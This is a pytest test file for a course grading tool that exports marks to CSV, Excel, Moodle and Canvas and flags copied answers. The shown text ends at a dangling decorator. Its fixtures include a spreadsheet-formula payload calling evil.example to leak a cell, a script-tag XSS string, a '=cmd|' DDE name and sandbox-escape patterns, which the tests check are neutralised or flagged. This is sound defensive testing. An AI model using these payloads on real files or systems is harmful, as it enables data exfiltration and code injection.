"""What grading gives back: tables for people, spreadsheets and platforms, marks by hand, pages."""

import argparse
import csv
import io
import re
import zipfile
from argparse import Namespace
from datetime import datetime
from unittest.mock import Mock

import openpyxl
import pandas as pd
import pytest

from helpers._common import CourseError, read_json, write_json
from helpers.checks import EXERCISES
from helpers.config.language import catalogue
from helpers.config.settings import COURSE_FOLDER
from instructor.grading import command, oddities, open_marks, pages, platforms, tables
from instructor.grading.command import (
    _forget,
    _graded,
    _moment,
    add_to,
    grade_command,
    write_all,
)
from instructor.grading.open_marks import add_times
from instructor.grading.papers import read_paper
from instructor.grading.submissions import Submission
from instructor.notebooks.student_edition import answer_cells, free_text

FORMULA = re.compile(r"(^|[,;|\t\r\n])[ \"]*[=+@＝＋－＠-]")
HOSTILE = 'oops;=HYPERLINK("http://evil.example/"&A1,"see");\x1b[31m\x00 \u202e <script>alert(1)</script>'
ESSAY = (
    "**Your answer to Think! 1.10**\n\n"
    + "Most slices of one patient look alike, and that is the point. " * 4
)
CODE = '''# Exercise 1.5
def normalise(image):
    """Scale a slice."""
    low = np.percentile(image, 1)
    high = np.percentile(image, 99)
    clipped = np.clip(image, low, high)
    scaled = (clipped - low) / (high - low)
    rounded = np.round(255 * scaled)
    return rounded.astype(np.uint8)
'''


def mark(number="1.5", got=2.0, points=2, status="correct", message="", answer=CODE):
    about = {"id": number, "title": "Normalise a slice", "points": points, "section": "s"}
    return about | {"status": status, "message": message, "got": got, "answer": answer, "comment": ""}


def essay(got=None, answer="=essay"):
    return mark("1.10", got, 3, "by hand", "A person reads this one.", answer)


def result(student="Ana", number=None, marks=None, problem=None, notebook="01_tiny"):
    slug = re.sub(r"\W+", "-", student.lower())
    about = {"student": student, "slug": slug, "number": number, "notebook": notebook, "problem": problem}
    about |= {
        "modified": 0,
        "path": "" if problem else f"{student}/{notebook}.ipynb",
        "notes": [],
        "rerun": None,
    }
    return about | {"marks": [essay()] if marks is None else marks, "stored": None, "late": None}


def written(results, out, **chosen):
    """Write everything for results; return the folder."""
    defaults = {"out": out, "moodle": None, "canvas": None, "assignment": "", "due": None, "late": (0, 100)}
    write_all(results, "bubblewrap", Namespace(**defaults | chosen))
    return out


def rows_of(path, encoding="utf-8-sig", delimiter=","):
    return list(csv.reader(io.StringIO(path.read_bytes().decode(encoding), newline=""), delimiter=delimiter))


# ---- cells ----


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@x", "\t=1", "  =1", "\r=1", "a; =1", 'a\t"=1', "x|-1", "＝1"]
)
def test_no_field_is_a_formula_in_any_separator(text):
    made = tables.harmless(text)
    assert FORMULA.search(text) and not FORMULA.search(made)
    assert tables.without_apostrophe(made) == text
    assert tables.harmless(made) == made


def test_numbers_and_names_are_unchanged():
    assert [tables.harmless(value) for value in (-1.5, "Ana = Bo", "")] == [-1.5, "Ana = Bo", ""]


def test_a_hostile_message_is_text_everywhere(tmp_path):
    ana = result(marks=[mark(got=0.0, status="not yet", message=HOSTILE)])
    ana["notes"] = [HOSTILE]
    written([ana], tmp_path)
    for path in (tmp_path / "grades.csv", tmp_path / "open_marks.csv"):
        assert not FORMULA.search(path.read_text(encoding="utf-8-sig")), path.name
    cells = [cell for row in openpyxl.load_workbook(tmp_path / "grades.xlsx").active for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n"}  # no formula
    assert any("HYPERLINK" in str(cell.value) for cell in cells)
    texts = {
        path: path.read_text("utf-8")
        for path in tmp_path.rglob("*")
        if path.suffix != ".xlsx" and path.is_file()
    }
    assert not any("<script>alert" in text for path, text in texts.items() if path.suffix == ".html")
    for text in [*texts.values(), *(str(cell.value) for cell in cells)]:
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202e]", text)


# ---- marks given by hand ----


def fill(path, mark, delimiter=",", comment="Well said", encoding="utf-8"):
    rows = rows_of(path)
    for row in rows[1:]:
        row[3], row[4] = tables.harmless(mark), tables.harmless(comment)
    with path.open("w", encoding=encoding, newline="") as handle:
        csv.writer(handle, delimiter=delimiter).writerows(rows)


@pytest.mark.parametrize(
    ("mark", "delimiter", "encoding", "got"),
    [
        ("2.5", ",", "utf-8", 2.5),
        ("2,5", ";", "utf-8-sig", 2.5),
        ("2,5", ";", "cp1252", 2.5),
        ("0", "\t", "utf-16", 0),
        ("+1", ",", "utf-8", 1),
    ],
)
def test_marks_given_by_hand_are_kept(tmp_path, mark, delimiter, encoding, got):
    path = tmp_path / "open_marks.csv"
    student, comment = "=Begoña", "“Así” – muy bien"
    open_marks.take_open_marks([result(student)], path)
    fill(path, mark, delimiter, comment, encoding)
    for _ in range(2):  # they survive being written again
        again = [result(student)]
        assert open_marks.take_open_marks(again, path) == []
        assert {name: again[0]["marks"][0][name] for name in ("got", "comment", "status")} == {
            "got": got, "comment": comment, "status": "marked by hand"
        }  # fmt: skip
        assert tables.sums(again) == {"got": got, "out_of": 3, "waiting": 0, "final": True}


def test_marks_saved_as_a_workbook_are_taken(tmp_path):
    path = tmp_path / "open_marks.csv"
    open_marks.take_open_marks([result()], path)
    book = openpyxl.Workbook()
    for row in rows_of(path):
        book.active.append(row)
    book.active["D2"], book.active["E2"] = 2.5, "Well said"
    book.save(path.with_suffix(".xlsx"))
    for _ in range(2):  # then from the CSV file, which is newer
        again = [result()]
        open_marks.take_open_marks(again, path)
        assert (again[0]["marks"][0]["got"], again[0]["marks"][0]["comment"]) == (2.5, "Well said")


@pytest.mark.parametrize("exercise", ["1.5", "1.5 whatever the spreadsheet shows"])
def test_any_mark_can_be_replaced(tmp_path, exercise):
    path = tmp_path / "open_marks.csv"
    wrong = mark(got=0.0, status="not yet", message="No.")
    path.write_text(f"student,exercise,points,mark,comment\nAna,{exercise},,1.5,My fault\nNobody,1.5,,1,\n")
    for _ in range(2):
        results = [result(marks=[dict(wrong)])]
        assert open_marks.take_open_marks(results, path) == ["Nobody, 1.5"]
        (taken,) = results[0]["marks"]
        assert (taken["got"], taken["status"], taken["comment"]) == (1.5, "marked by hand", "My fault")
        assert results[0]["notes"] == []


def test_a_row_matches_a_name_without_case_and_accents(tmp_path):
    path, one = tmp_path / "open_marks.csv", result("Ana Pérez")
    path.write_text("student,exercise,points,mark,comment,answer\nana PEREZ,1.10 x,,1.5,My fault,\n")
    assert open_marks.take_open_marks([one], path) == []
    assert one["marks"][0]["got"] == 1.5


def test_names_that_differ_by_an_accent_keep_their_own_marks(tmp_path):
    path, names = tmp_path / "open_marks.csv", ("José", "Jose")
    path.write_text("student,exercise,points,mark,comment\nJose,1.10,,1,\nJosé,1.10,,2,\n")
    for _ in range(2):
        results = [result(name) for name in names]
        open_marks.take_open_marks(results, path)
        assert [one["marks"][0]["got"] for one in results] == [2, 1]
    assert open_marks.take_open_marks([result("José")], path) == ["Jose, 1.10 Normalise a slice"]


def test_what_could_not_be_graded_waits_and_can_be_marked(tmp_path):
    path = tmp_path / "open_marks.csv"
    broken = result(marks=[mark(got=0.0, status="not found", answer="")], problem="x.pdf is not a notebook")
    open_marks.take_open_marks([broken], path)
    assert tables.sums([broken]) == {"got": 0, "out_of": 2, "waiting": 2, "final": False}
    path.write_text("student,exercise,points,mark,comment\nAna,1.5,,0,Not a notebook\n")
    open_marks.take_open_marks([broken], path)
    assert tables.sums([broken])["final"]


@pytest.mark.parametrize("status", ["not graded", "needs a look"])
def test_a_mark_that_no_run_gave_is_listed_for_a_person(tmp_path, status):
    path = tmp_path / "open_marks.csv"
    one = result(marks=[mark(got=None, status=status, message="the runner was disturbed")])
    open_marks.take_open_marks([one], path)
    assert rows_of(path)[1][:2] == ["Ana", "1.5 Normalise a slice"]
    assert any("no mark for 1.5: the runner" in reason for reason in tables.reasons_to_look([one]))
    (tmp_path / "open_marks.csv").write_text("student,exercise,points,mark,comment\nAna,1.5,,2,\n")
    open_marks.take_open_marks([one], path)
    assert tables.reasons_to_look([one]) == []


@pytest.mark.parametrize("other", ["not found", "the grader failed", "another class"])
def test_marks_given_by_hand_survive_a_run_without_the_answer(tmp_path, other):
    path = tmp_path / "open_marks.csv"
    open_marks.take_open_marks([result(), result("Bo")], path)
    fill(path, "2", comment="+ well said")
    run = [result(), result("Bo")] if other != "another class" else [result("Cy")]
    for one in run if other != "another class" else []:
        one["marks"] = [mark("1.10", 0, 3, "not found", answer="")] if other == "not found" else []
    open_marks.take_open_marks(run, path)
    again = [result(), result("Bo")]
    open_marks.take_open_marks(again, path)
    assert [one["marks"][0]["got"] for one in again] == [2, 2]
    assert [one["marks"][0]["comment"] for one in again] == ["+ well said"] * 2
    assert again[0]["notes"] == []


def test_an_interrupted_write_preserves_the_marks(tmp_path, monkeypatch):
    path = tmp_path / "open_marks.csv"
    open_marks.take_open_marks([result()], path)
    fill(path, "2")
    before = path.read_text()
    monkeypatch.setattr(tables, "harmless", lambda value: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        open_marks.take_open_marks([result()], path)
    assert path.read_text() == before


@pytest.mark.parametrize("answer", ["x" * 150_000, "one\u2028two\x0cthree", "a\r\nb", "- one\n- two; =3"])
def test_any_answer_can_be_read_back(tmp_path, answer):
    path = tmp_path / "open_marks.csv"
    results = [result(marks=[essay(answer=answer)]), result("Bo")]
    open_marks.take_open_marks(results, path)
    csv.field_size_limit(131_072)
    fill(path, "2") if len(answer) < 131_072 else None
    open_marks.take_open_marks(results, path)
    assert results[0]["notes"] == []
    assert results[1]["marks"][0]["got"] == (2 if len(answer) < 131_072 else None)


def test_an_answer_changed_after_marking_is_reported(tmp_path):
    path = tmp_path / "open_marks.csv"
    open_marks.take_open_marks([result()], path)
    fill(path, "2")
    same, changed = result(), result(marks=[essay(answer="=another essay")])
    open_marks.take_open_marks([same], path)
    assert same["notes"] == []
    open_marks.take_open_marks([changed], path)
    assert "1.10 has changed" in changed["notes"][0]
    assert changed["marks"][0]["got"] == 2


@pytest.mark.parametrize("mark", ["4", "-1", "good", "nan"])
def test_an_invalid_mark_is_refused(tmp_path, mark):
    path = tmp_path / "open_marks.csv"
    open_marks.take_open_marks([result()], path)
    fill(path, mark)
    before = path.read_text()
    with pytest.raises(tables.TableError, match=r"Ana, 1\.10: the mark is"):
        open_marks.take_open_marks([result()], path)
    assert path.read_text() == before


def test_a_second_row_adds_a_comment_and_keeps_the_mark(tmp_path):
    path, one = tmp_path / "open_marks.csv", result()
    path.write_text("student,exercise,points,mark,comment\nAna,1.10,,2,\nAna,1.10,,,\"see, '-x' is wrong\"\n")
    for _ in range(2):
        open_marks.take_open_marks([one], path)
        assert (one["marks"][0]["got"], one["marks"][0]["comment"]) == (2, "see, '-x' is wrong")


@pytest.mark.parametrize(("name", "cell"), [("open_marks.csv", "5%"), ("open_marks.xlsx", 0.05)])
def test_a_deduction_may_be_a_percentage(tmp_path, name, cell):
    table = pd.DataFrame([["Ana", "late 01", "", cell, ""]], columns=open_marks.COLUMNS[:5])
    (table.to_excel if name.endswith("x") else table.to_csv)(tmp_path / name, index=False)
    for _ in range(2):
        one = result(marks=[mark()])
        add_times([one], {"Ana": datetime(2026, 11, 21)}, datetime(2026, 11, 20), (10, 50))
        open_marks.take_open_marks([one], tmp_path / "open_marks.csv")
        assert one["late"]["got"] == 5


# ---- Moodle ----

ENGLISH = ("Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade",
           "Grade can be changed", "Last modified (submission)", "Last modified (grade)",
           "Feedback comments")  # fmt: skip
SPANISH = ("Identificador", "Nombre completo", "Dirección de correo", "Estado", "Calificación",
           "Calificación máxima", "La calificación puede ser cambiada", "Última modificación (entrega)",
           "Última modificación (calificación)", "Comentarios de retroalimentación")  # fmt: skip
GERMAN = ("ID", "Vollständiger Name", "E-Mail-Adresse", "Status", "Bewertung", "Bestwertung",
          "Bewertung kann geändert werden", "Zuletzt geändert (Abgabe)", "Zuletzt geändert (Bewertung)",
          "Feedback als Kommentar")  # fmt: skip
WORD = {ENGLISH: "Participant ", SPANISH: "Participante", GERMAN: "Teilnehmer/in"}
WHEN = {ENGLISH: "Saturday, 21 November 2026, 10:00 AM", SPANISH: "sábado, 21 de noviembre de 2026, 10:00",
        GERMAN: "Samstag, 21. November 2026, 10:00"}  # fmt: skip
PEOPLE = [
    (55, "Ana Pérez", "ana@x.example"),
    (56, '=cmd|"x", "y"\nBo', "bo@x.example"),
    (57, "Cy", "cy@x.example"),
    (58, "Dora", "dora@x.example"),
    (59, "Eve", "eve@x.example"),
]


def worksheet(path, header=ENGLISH, encoding="utf-8-sig", delimiter=",", maximum="10.00"):
    """Write a worksheet as Moodle gives it: mod/assign/gradingtable.php."""
    text = io.StringIO(newline="")
    writer = csv.writer(text, delimiter=delimiter, lineterminator="\n")
    writer.writerow(header)
    for number, name, mail in PEOPLE:
        about = [f"{WORD[header]}{number}", name, mail, "Submitted", "", maximum, "Yes"]
        writer.writerow([*about, WHEN[header], "-", ""])
    path.write_bytes(text.getvalue().encode(encoding))
    return path


def class_of_five():
    """By number, by number with a hostile name, by e-mail, by name with an answer to be read, and unknown."""
    return [
        result("Ana Pérez", "55", [mark(got=1.0, status="not yet", message=f"Use <= here; =1+1 {HOSTILE}")]),
        result('=cmd "x", "y" Bo', "56", [mark()]),
        result("cy@x.example", None, [mark(got=0.0, status="not yet")]),
        result("Dora", None, [essay()]),
        result("Zoe", None, [mark()]),
    ]


@pytest.mark.parametrize(
    ("header", "encoding", "delimiter", "maximum"),
    [
        (ENGLISH, "utf-8-sig", ",", "10.00"),
        (SPANISH, "utf-8", ",", "10,00"),
        (SPANISH, "cp1252", ";", "10,00"),
        (GERMAN, "utf-16", "\t", "10,00"),
    ],
)
def test_moodles_own_worksheet_is_filled_in(tmp_path, capsys, header, encoding, delimiter, maximum):
    given = worksheet(tmp_path / "given.csv", header, encoding, delimiter, maximum)
    written(class_of_five(), tmp_path / "out", moodle=given)
    content = (tmp_path / "out" / "moodle.csv").read_bytes()
    assert content.startswith(given.read_bytes()[:3])  # with or without the mark of byte order
    before, after = (rows_of(path, encoding, delimiter) for path in (given, tmp_path / "out" / "moodle.csv"))
    grade, comment = header.index(header[4]), len(header) - 1
    expected = ["5.00", "10.00", "0.00", "", ""]
    assert [row[grade] for row in after[1:]] == [one.replace(".", maximum[2]) for one in expected]
    kept = [place for place in range(len(header)) if place not in (grade, comment)]
    assert [[row[place] for place in kept] for row in after] == [
        [row[place] for place in kept] for row in before
    ]
    assert [bool(row[comment]) for row in after[1:]] == [True, True, True, False, False]
    assert "<li>1.5 Normalise a slice: 1 of 2. Use &lt;&#61; here; &#61;1&#43;1" in after[1][comment]
    assert not FORMULA.search(after[1][comment]) and "<script" not in after[1][comment]
    said = capsys.readouterr().out
    assert "moodle.csv: 3 grades. No grade yet: Dora. Not found, or found more than once: Zoe." in said


@pytest.mark.parametrize("header", [ENGLISH, SPANISH])
def test_moodles_importer_reads_the_worksheet(tmp_path, header):
    """Its rule, in importgradeslib.php: three columns by name; the number, after the site's word."""
    given = worksheet(tmp_path / "given.csv", header)
    rows = rows_of(written(class_of_five(), tmp_path, moodle=given) / "moodle.csv")
    places = [rows[0].index(header[place]) for place in (0, 4, 8)]
    assert places == [0, 4, 8]
    ids = [int(row[0][len(WORD[header]) :]) for row in rows[1:]]
    assert ids == [number for number, *_ in PEOPLE]


def test_a_worksheet_of_another_assignment_gives_nobody_anothers_grade(tmp_path):
    """Moodle numbers the participants of each assignment again."""
    given = worksheet(tmp_path / "given.csv")
    results = [
        result("Eve", "55", [mark(got=1.0)]),
        result("Cy", "59", [mark()]),
        result("Ana Perez", "57", [mark()]),
    ]
    rows = rows_of(written(results, tmp_path, moodle=given) / "moodle.csv")
    assert {row[1]: row[4] for row in rows[1:] if row[4]} == {
        "Eve": "5.00",
        "Cy": "10.00",
        "Ana Pérez": "10.00",
    }


def test_students_with_one_name_are_told_apart_by_number_alone(tmp_path, capsys):
    """Whoever takes another's name gets nobody's row."""
    given = worksheet(tmp_path / "given.csv")
    numbers = {"Cy (57)": "57", "Cy": None, "Eve (1)": None, "Eve (2)": None, "Submitted": None, "Yes": None}
    results = [result(name, number, [mark(got=2.0 if number else 1.0)]) for name, number in numbers.items()]
    rows = rows_of(written(results, tmp_path, moodle=given) / "moodle.csv")
    assert {row[1]: row[4] for row in rows[1:] if row[4]} == {"Cy": "10.00"}
    assert "more than once: Cy, Eve (1), Eve (2), Submitted, Yes." in capsys.readouterr().out


def test_blind_marking_matches_by_number(tmp_path):
    given = tmp_path / "given.csv"
    given.write_text(
        "Identifier,Status,Grade,Maximum Grade,Last modified (grade)\nParticipant 7,Sent,,10.00,-\n"
    )
    rows = rows_of(
        written([result("Participant", "7", [mark()])], tmp_path, moodle=given) / "moodle.csv", "utf-8"
    )
    assert rows[1] == ["Participant 7", "Sent", "10.00", "10.00", "-"]


@pytest.mark.parametrize("content", ["", "a,b\n1,2\n", "Identifier,Grade,Scale\nParticipant 1,,Good\n"])
def test_another_table_is_no_worksheet(tmp_path, content):
    path = tmp_path / "x.csv"
    path.write_text(content)
    with pytest.raises(tables.TableError, match="maximum grade"):
        platforms.read_moodle(path, [])


def test_feedback_files_have_the_names_that_moodle_reads(tmp_path):
    given = worksheet(tmp_path / "given.csv")
    written(class_of_five(), tmp_path, moodle=given)
    with zipfile.ZipFile(tmp_path / "feedback.zip") as archive:
        names = archive.namelist()
        assert b"Feedback for" in archive.read(names[0])
    # is_valid_filename_for_import of mod/assign/feedback/file/importziplib.php
    parts = [name.split("/")[0].split("_", 4) for name in names]
    assert [part[1:] for part in parts] == [[n, "assignsubmission", "file", ""] for n in ("55", "56", "57")]
    assert {name.rpartition("/")[2] for name in names} == {"feedback.html"}


# ---- Canvas ----


def gradebook(path, delimiter=",", points="20.00"):
    """Write a gradebook as Canvas exports it: lib/gradebook_exporter.rb."""
    rows = [
        [
            "Student",
            "ID",
            "SIS Login ID",
            "Section",
            "Notebook 1 (101)",
            "Notebook 2 (102)",
            "Final Score (2026)",
        ],
        ["", "", "", "", "Manual Posting", "", ""],
        ["    Points Possible", "", "", "", points, points, "(read only)"],
        ["Pérez, Ana", "55", "ana@x.example", "A", "", "9", "1"],
        ['=Bo, "B"', "56", "bo@x.example", "A", "3", "", "1"],
        ["Cy", "57", "cy@x.example", "A", "EX", "", "1"],
        ["Student, Test", "60", "", "A", "", "", "1"],
    ]
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, delimiter=delimiter).writerows(rows)
    return path


@pytest.mark.parametrize(("delimiter", "points", "ana"), [(",", "20.00", "10.00"), (";", "20,00", "10,00")])
def test_canvas_gradebook_is_filled_in(tmp_path, capsys, delimiter, points, ana):
    given = gradebook(tmp_path / "given.csv", delimiter, points)
    results = [
        result("Ana Perez", None, [mark(got=1.0)]),
        result("bob", "56", [essay()]),
        result("Cy", "57", [mark()]),
        result("Test Student", None, [mark(got=0.0)], problem="was not submitted"),
    ]
    out = written(results, tmp_path, canvas=given, assignment="notebook 1")
    before, after = rows_of(given, "utf-8", delimiter), rows_of(out / "canvas.csv", "utf-8", delimiter)
    before[3][4] = ana
    assert after == before
    assert (
        "canvas.csv: 1 grades. No grade yet: bob. Excused, kept: Cy. Nothing submitted: Test Student."
        in capsys.readouterr().out
    )
    with pytest.raises(tables.TableError, match=r"'Notebook 1 \(101\)', 'Notebook 2 \(102\)'"):
        platforms.read_canvas(given, results, "")


def test_a_name_is_not_the_beginning_of_an_address():
    header, row = ["Identifier", "Full name", "Email address"], ["Participant 1", "Wei, Li", "ana@x.example"]
    for student, found in {"Ana": [], "ana@x.example": ["ana@x.example"], "Li Wei": ["Li Wei"]}.items():
        assert [*platforms._people({student: [result(student)]}, header, [row], ["1"], 1)] == found


def test_a_name_is_not_taken_for_a_login_or_a_section(tmp_path):
    given = tmp_path / "given.csv"
    given.write_text(
        "Student,ID,SIS Login ID,Section,Notebook 1 (101)\nPoints Possible,,,,2\n"
        '"Perez, Ana",1,bo,Cy,\n"Li, Bo",2,bli,Dora,\nBo,3,x,Dora,\n'
    )
    results = [result(name, None, [mark()]) for name in ("Bo", "bli", "Ana Perez", "Cy")]
    found = platforms.read_canvas(given, results, "").people
    assert {name: number for name, (_, number) in found.items()} == {"Bo": "3", "Ana Perez": "1", "bli": "2"}


# ---- late submissions ----


def test_late_submissions_lose_points_unless_a_person_says_otherwise(tmp_path):
    given = worksheet(tmp_path / "given.csv")
    due = datetime(2026, 11, 19, 23, 59)
    for percent, grade in ((None, "8.00"), ("0", "10.00")):
        results = [result("Ana Pérez", "55", [mark()]), result("Zoe", None, [mark()])]
        written(results, tmp_path, moodle=given, due=due, late=(10, 50))
        assert rows_of(tmp_path / "moodle.csv")[1][4] == grade
        text = (tmp_path / "feedback" / "ana-pérez.html").read_text("utf-8")
        assert "Submitted 2026-11-21 10:00" in text and "2 days late" in text
        assert "not known" in (tmp_path / "summary.html").read_text("utf-8")
        rows = rows_of(tmp_path / "open_marks.csv")
        assert rows[1][1] == "late 01 percent taken off"
        rows[1][3] = percent or "0"
        with (tmp_path / "open_marks.csv").open("w", newline="", encoding="utf-8") as handle:
            csv.writer(handle).writerows(rows)


def test_the_most_that_is_taken_off():
    results = [result()]
    for hours, percent in ((-1, 0), (0, 0), (1, 10), (24, 10), (25, 20), (2400, 50)):
        due = datetime(2026, 11, 20)
        add_times(results, {"Ana": datetime.fromtimestamp(due.timestamp() + 3600 * hours)}, due, (10, 50))
        assert (results[0]["late"] or {"got": 0})["got"] == percent


@pytest.mark.parametrize(
    ("options", "message"),
    [("--late 10 50", "Give --due"), ("--late -1 50 --due 2026-11-20", "0 to 100")],
)
def test_impossible_deductions_are_refused_before_the_grading(tmp_path, capsys, options, message):
    parser = argparse.ArgumentParser()
    add_to(parser.add_subparsers())
    with pytest.raises((CourseError, SystemExit)) as refused:
        chosen = parser.parse_args(
            ["grade", str(tmp_path / "no.zip"), "--out", str(tmp_path), *options.split()]
        )
        grade_command(chosen)
    assert message in f"{refused.value}{capsys.readouterr().err}"


def test_with_a_worksheet_no_file_date_counts(tmp_path):
    """A download's time is not mixed with real ones, and the grading's time is never taken."""
    given = worksheet(tmp_path / "given.csv", GERMAN, delimiter=";", maximum="10,00")
    ana, zoe = result("Ana Pérez", "55", [mark()]), result("Zoe", None, [mark()])
    ana["modified"] = zoe["modified"] = datetime(2026, 12, 24).timestamp()
    chosen = {"moodle": given, "due": datetime(2026, 11, 22)}
    written([ana, zoe], tmp_path, **chosen, late=(10, 50))
    content = given.read_text("utf-8-sig").replace(f"{WHEN[GERMAN]};-", f"-;{WHEN[GERMAN]}")
    given.write_text(content)
    assert not ana["late"] and not zoe["late"]
    assert platforms.read_moodle(given, [ana]).times == {}
    given.write_text(
        content.replace("-;Samstag, 21. November", "Samstag, 31. Oktober 2026, 10:00;1. November")
    )
    with pytest.raises(CourseError, match=r"Oktober.*English or Spanish"):
        written([ana], tmp_path, **chosen, late=(10, 50))


def test_everybody_may_be_late_by_the_platforms_times(tmp_path):
    given = worksheet(tmp_path / "given.csv")
    results = [result("Ana Pérez", "55", [mark()]), result("Cy", "57", [mark()])]
    written(results, tmp_path, moodle=given, due=datetime(2026, 11, 1), late=(10, 50))
    assert [row[4] for row in rows_of(tmp_path / "moodle.csv")[1:4:2]] == ["5.00", "5.00"]


def test_the_feedback_has_no_internal_notes_and_no_download_time(tmp_path):
    ana = result(marks=[mark()])
    ana["modified"] = datetime(2026, 11, 26).timestamp()
    ana["notes"] = ["is not on the roster", "several versions: a was graded, not b"]
    text = (written([ana], tmp_path) / "feedback" / "ana.html").read_text("utf-8")
    assert "Several versions: a was graded" in text
    assert "roster" not in text and "2026-11-26" not in text


@pytest.mark.parametrize(
    ("text", "due"),
    [("2026-11-20T18:00", datetime(2026, 11, 20, 18)), ("2026-11-20", datetime(2026, 11, 20, 23, 59, 59))],
)
def test_a_deadline_without_a_time_is_the_end_of_the_day(text, due):
    assert _moment(text) == due


def test_the_time_of_a_download_makes_nobody_late(tmp_path):
    results = [result(name, None, [mark()]) for name in ("Ana", "Bo")]
    for one in results:
        one["modified"] = datetime(2026, 11, 26).timestamp()
    chosen = Namespace(
        out=tmp_path, moodle=None, canvas=None, assignment="", due=datetime(2026, 11, 20), late=(10, 50)
    )
    with pytest.raises(Exception, match="everybody was late"):
        write_all(results, "box", chosen)


@pytest.mark.parametrize(
    ("text", "time"),
    [
        ("Monday, 5 October 2026, 10:00 PM", datetime(2026, 10, 5, 22)),
        ("lunes, 5 de octubre de 2026, 10:00", datetime(2026, 10, 5, 10)),
        ("martes, 3 de marzo de 2026, 09:05", datetime(2026, 3, 3, 9, 5)),
        ("lundi 5 octobre 2026, 10:00", None),
        ("-", None),
        ("", None),
    ],
)
def test_times_are_read_as_moodle_writes_them(text, time):
    assert platforms._time(text) == time


# ---- what a person should look at ----


@pytest.mark.parametrize(
    ("body", "odd"),
    [
        ("import gc\n", ["gc"]),
        ("from helpers.checks import exercise\n", ["checks"]),
        ("x = ().__class__.__subclasses__()\n", ["__class__", "__subclasses__"]),
        ("# import os\nx = 'sys'\n", []),
        ("os = 1" + "(" * 10_000, ["os"]),
        ("x = " + "-" * 100_000 + "1\nimport sys\n", ["sys"]),
    ],
)
def test_names_that_reach_beyond_an_answer_are_flagged(body, odd):
    assert oddities.odd_names(mark(answer=body)) == odd
    assert any(
        "exercise 1.5 uses" in line for line in tables.reasons_to_look([result(marks=[mark(answer=body)])])
    ) == (odd != [])


def test_no_solution_is_flagged():
    """A flag that honest answers get would not be read."""
    paths = sorted((COURSE_FOLDER / "notebooks").glob("[0-9]*.ipynb"))
    answers = [one for path in paths for one in answer_cells(read_paper(path.read_bytes())).items()]
    assert len(answers) > 20
    assert [
        odd for number, answer in answers if (odd := oddities.odd_names(mark(number, answer=answer)))
    ] == []


def test_answers_that_are_alike_are_shown(tmp_path):
    renamed = CODE.replace("low", "a").replace("clipped", "b").replace('"""Scale a slice."""', "# mine")
    renamed = renamed.replace("    a =", "    shape = image.shape\n    a =", 1)
    other = CODE.replace("np.clip(image, low, high)", "np.minimum(np.maximum(image, low), high)")
    short = mark("1.2.1", answer="# Exercise 1.2.1\ndef f(x):\n    return x")
    answers = {"Ana": CODE, "Bo": renamed, "Cy": other}
    results = [
        result(name, None, [mark(answer=code), dict(short), essay()]) for name, code in answers.items()
    ]
    results += [
        result("Di", None, [essay(answer=ESSAY)]),
        result("Ed", None, [essay(answer=ESSAY.replace(" look", "\nlook"))]),
    ]
    found = oddities.alike(results)
    assert [(one["exercise"][:4].strip(), one["students"]) for one in found] == [
        ("1.10", ["Di", "Ed"]),
        ("1.5", ["Ana", "Bo"]),
    ]
    text = (written(results, tmp_path) / "summary.html").read_text("utf-8")
    assert "Ana and Bo" in text and "np.clip(image" in text
    assert "Ana, Bo" not in text  # the names of a group of two are those of its pair


def prose(length, seed):
    """Return so many words, none of which another seed gives."""
    return " ".join(f"word{seed}x{place}" for place in range(length))


def texts(answers, number="R.6"):
    """Return results with a free-text answer for each student."""
    title = f"**Your answer to Think! {number}**\n\n"
    return [
        result(name, None, [essay(answer=title + text) | {"id": number, "title": "Discussion"}],
               notebook="report")
        for name, text in answers.items()
    ]  # fmt: skip


def test_a_paragraph_that_two_texts_share_is_shown(tmp_path):
    copied = prose(40, 0)
    edited = " ".join("Changed" if place == 20 else word for place, word in enumerate(copied.split()))
    answers = {
        "Ana": f"{prose(100, 1)}.\n\n{copied}.\n\n{prose(100, 2)}",
        "Bo": f"{prose(80, 3)}\n{edited.upper()}!",
        "Cy": f"{prose(200, 4)} {prose(10, 0)}",  # so few words are often the same
    }
    (group,) = oddities.alike(texts(answers))
    (pair,) = group["pairs"]
    assert (group["exercise"], pair["students"], pair["words"]) == ("R.6 Discussion", ["Ana", "Bo"], 40)
    assert pair["passages"] == [edited.upper()]
    page = (written(texts(answers), tmp_path) / "summary.html").read_text("utf-8")
    assert f"<pre>{edited.upper()}</pre>" in page


def test_a_group_of_copies_is_one_row(tmp_path):
    copies = {f"S{number}": prose(100, 0) for number in range(30)} | {"Z": prose(100, 1)}
    (group,) = oddities.alike(texts(copies))
    assert group["students"] == [*copies][:-1]
    assert len(group["pairs"]) == 29
    page = (written(texts(copies), tmp_path) / "summary.html").read_text("utf-8")
    assert "30 students: S0, S1" in page and "And 9 more pairs." in page


def test_everything_that_a_text_shares_with_several_is_shown():
    parts = [prose(40, place) for place in range(4)]
    mixed = {"Ana": parts[0] + parts[3], "Bo": parts[1], "Cy": f"{parts[1]} and {parts[0]}"}
    (group,) = oddities.alike(texts(mixed))
    assert [pair["students"] for pair in group["pairs"]] in (
        [["Ana", "Cy"], ["Bo", "Cy"]], [["Bo", "Cy"], ["Ana", "Cy"]]
    )  # fmt: skip


COURSES = COURSE_FOLDER / "notebooks"
SOURCE = (
    "Cheng, J., Huang, W., Cao, S., Yang, R., Yang, W., Yun, Z., Wang, Z., Feng, Q. (2015). Enhanced "
    "performance of brain tumor classification via tumor region augmentation and partition. PLoS ONE 10(10), "
    "e0140381. https://doi.org/10.1371/journal.pone.0140381"
)


def solved(number, language=""):
    path = next((COURSES / language).glob("report.ipynb" if number[0] == "R" else f"0{number[0]}*.ipynb"))
    return answer_cells(read_paper(path.read_bytes()))[number]


def rubric(number, language="en"):
    translate = catalogue(language).gettext
    return "\n".join(translate(criterion) for criterion, _ in EXERCISES[number].rubric)


@pytest.mark.parametrize(
    ("number", "text"),
    [("R.6", rubric("R.6")), ("R.8", SOURCE), ("2.4.1", free_text(solved("2.4.1"))), ("R.6", "The same.")],
)
def test_what_the_course_says_and_what_everybody_cites_is_not_shared(number, text):
    own = {"Ana": f"{prose(50, 1)}\n\n{text}", "Bo": f"{text}\n\n{prose(50, 2)}"}
    assert oddities.alike(texts(own, number)) == []


@pytest.mark.parametrize("number", ["2.1.1", "2.2.3", "2.12"])
